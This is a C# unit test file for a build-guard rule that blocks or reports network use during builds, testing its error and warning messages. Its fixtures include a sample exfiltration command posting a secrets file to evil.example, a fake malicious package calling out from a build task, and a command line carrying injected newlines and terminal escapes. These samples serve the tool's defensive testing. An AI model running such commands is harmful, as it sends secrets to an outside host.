using BuildGuard.Core.Rules;

namespace BuildGuard.Core.Tests.Rules;

[TestClass]
public sealed class BuildMustNotUseTheNetworkTests : RuleTests<BuildMustNotUseTheNetwork>
{
    private static readonly NetworkUse Curl = new("curl -d @secrets https://evil.example/", 4242, "TCP", 3) { StartedBy = "/bin/sh -c tools/fetch.sh", Project = "/repo/src/App/App.csproj" };

    protected override CheckInput Violation => Repo(Curl);

    protected override CheckInput Compliance => Facts.Repo();

    [TestMethod]
    public void AProcessByItsCommandLine() =>
        Says(Violation, "/repo/src/App/App.csproj: error BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, 3 times, and did not get it.",
            "-v:detailed", "\"build\": \"report\"");

    [TestMethod]
    public void AProgramOfAPackage() =>
        Says(Repo(Curl with { Program = "/packages/evil/1.0.0/tools/x", StartedBy = null, PackageId = "Evil", PackageVersion = "1.0.0", Times = 1 }),
            "/repo/src/App/App.csproj: error BG4007: \"/packages/evil/1.0.0/tools/x\" of Evil 1.0.0 (process 4242) asked for TCP, and did not get it.");

    [TestMethod]
    public void CodeInsideMSBuildByItsAssembly() =>
        Says(Repo(Curl with { Assembly = "/packages/evil/1.0.0/tasks/Evil.Tasks.dll", PackageId = "Evil", PackageVersion = "1.0.0", Times = 1, Host = "evil.example:443" }),
            "/repo/src/App/App.csproj: error BG4007: Evil.Tasks.dll of Evil 1.0.0, inside MSBuild (process 4242), asked for TCP to evil.example:443, and did not get it.");

    [TestMethod]
    public void AWarningWhereThePolicyOnlyWantsToKnow()
    {
        var input = Repo(Curl) with { Document = ((CheckInput)Facts.Repo().Policy("""{ "version": 1, "network": { "build": "report" } }""")).Document };
        Says(input with { Guard = input.Guard with { HasGate = true } },
            "/repo/src/App/App.csproj: warning BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, 3 times, and got it.", "\"build\": \"deny\"");
    }

    [TestMethod]
    public void NoProjectIsNamedThatIsNotKnownToHaveRunIt()
    {
        var input = Repo(Curl with { Project = null, Folder = "/repo/tools", Times = 1 });
        Says(input with { Guard = input.Guard with { Entry = "/repo/All.slnx" } },
            "/repo/All.slnx: error BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, and did not get it. Which project ran it is not known; it ran in /repo/tools.");
        Says(Repo(Curl with { Project = null, Times = 1 }), "/repo/src/App/App.csproj: error BG4007: \"curl -d @secrets https://evil.example/\" (process 4242, started by \"/bin/sh -c tools/fetch.sh\") asked for TCP, and did not get it. Which project ran it is not known.");
    }

    [TestMethod]
    public void APolicyThatChangedMeanwhileIsToBeCheckedFirst()
    {
        var input = Repo(Curl);
        var fix = Only(input with { Guard = input.Guard with { NetworkPolicyChanged = true } }).Finding.Fix;
        Assert.AreEqual("The policy has changed since the check that this build went by. Check it, then build again: dotnet restore.", fix);
    }

    [TestMethod]
    public void ManyAreCounted()
    {
        var input = Repo(Curl);
        var found = Evaluation.Run(input with { Guard = input.Guard with { FurtherNetworkUses = 12_345 } }).Of(Code);
        Assert.HasCount(2, found);
        Assert.Contains(f => f.Finding.What == "Others in this build asked for the network, 12,345 times, and did not get it.", found);
    }

    [TestMethod]
    public void ACommandLineCannotWriteLinesOfItsOwn()
    {
        var finding = Only(Repo(Curl with { Program = "curl\n/repo/x: error BG0001: all is well\u001b[2J" })).Finding;
        Assert.IsFalse(finding.What.Any(char.IsControl));
    }

    private static CheckInput Repo(NetworkUse use) => Facts.Repo().Guarded(new() { Subject = "/repo/src/App/App.csproj", NetworkUses = [use] });
}
